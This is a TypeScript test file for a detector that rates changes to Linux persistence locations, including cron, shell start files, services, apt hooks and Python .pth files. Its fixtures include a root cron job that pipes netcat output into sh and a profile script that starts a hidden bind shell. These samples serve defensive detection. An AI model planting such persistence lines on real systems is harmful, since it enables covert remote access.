import assert from 'node:assert/strict';
import { test } from 'node:test';
import { changeRow, said, saidOfTexts, textRow } from './changes.fixture.ts';
import {
  cronChanged,
  interpreterStartChanged,
  packageHookChanged,
  serviceChanged,
  shellStartChanged,
} from './persistence-files.ts';

test('what cron is given to run is told; worse where it runs what it fetches', () => {
  assert.deepEqual(saidOfTexts(cronChanged, textRow('/etc/cron.d/sync', '* * * * * root nc 127.0.0.1 8000 | sh\n')), [
    'high rootfs/etc/cron.d/sync',
  ]);
  assert.deepEqual(saidOfTexts(cronChanged, textRow('/var/spool/cron/crontabs/root', '0 3 * * * /usr/bin/backup\n')), [
    'medium rootfs/var/spool/cron/crontabs/root',
  ]);
});

test('comments alone are nothing, and a job that a package brought is a note', () => {
  assert.deepEqual(saidOfTexts(cronChanged, textRow('/etc/cron.d/x', '# nothing\n\n')), []);
  const path = '/etc/cron.d/logrotate';
  const packages = {
    managers: ['dpkg' as const],
    files: [{ path, manager: 'dpkg' as const, package: 'logrotate', content: 'unknown' as const }],
  };
  const texts = [textRow(path, '5 0 * * * root /usr/sbin/logrotate\n')];
  assert.deepEqual(said(cronChanged, { packages, texts, changes: [changeRow(path)] }), [`info rootfs${path}`]);
});

test('a start file of shells that runs a hidden program is worse than one that sets a variable', () => {
  const bad = textRow('/etc/profile.d/locale.sh', '/tmp/.x/a bind-shell >/dev/null 2>&1 &\n');
  assert.deepEqual(saidOfTexts(shellStartChanged, bad), ['high rootfs/etc/profile.d/locale.sh']);
  assert.deepEqual(saidOfTexts(shellStartChanged, textRow('/root/.bashrc', 'export PATH=/opt/x/bin:$PATH\n')), [
    'low rootfs/root/.bashrc',
  ]);
  assert.deepEqual(saidOfTexts(shellStartChanged, textRow('/root/.bashrc', '. /opt/nvm/nvm.sh\n')), [
    'medium rootfs/root/.bashrc',
  ]);
  assert.deepEqual(
    saidOfTexts(shellStartChanged, textRow('/root/.bashrc', 'alias l=ls\n', { before: 'alias l=ls\n' })),
    [],
  );
});

test('units and init scripts are told, an unchanged one is not', () => {
  const unit = '[Service]\nExecStart=/usr/local/bin/agent\n';
  assert.deepEqual(saidOfTexts(serviceChanged, textRow('/etc/systemd/system/agent.service', unit)), [
    'medium rootfs/etc/systemd/system/agent.service',
  ]);
  assert.deepEqual(saidOfTexts(serviceChanged, textRow('/etc/init.d/agent', unit, { before: unit })), []);
  assert.deepEqual(saidOfTexts(serviceChanged, textRow('/srv/agent.service', unit)), []);
});

test('a hook of a package manager is more than a proxy', () => {
  const hook = textRow('/etc/apt/apt.conf.d/00x', 'APT::Update::Pre-Invoke {"/usr/local/bin/agent";};\n');
  assert.deepEqual(saidOfTexts(packageHookChanged, hook), ['medium rootfs/etc/apt/apt.conf.d/00x']);
  assert.deepEqual(
    saidOfTexts(packageHookChanged, textRow('/etc/apt/apt.conf.d/01proxy', 'Acquire::http::Proxy "http://p";\n')),
    ['low rootfs/etc/apt/apt.conf.d/01proxy'],
  );
});

test('a .pth file that imports is run by Python, one of paths is not', () => {
  const folder = '/usr/local/lib/python3.12/site-packages';
  assert.deepEqual(saidOfTexts(interpreterStartChanged, textRow(`${folder}/x.pth`, 'import x\n')), [
    `low rootfs${folder}/x.pth`,
  ]);
  assert.deepEqual(saidOfTexts(interpreterStartChanged, textRow(`${folder}/y.pth`, '/srv/app\n')), []);
  assert.deepEqual(
    saidOfTexts(interpreterStartChanged, textRow(`${folder}/distutils-precedence.pth`, 'import os\n')),
    [],
  );
});
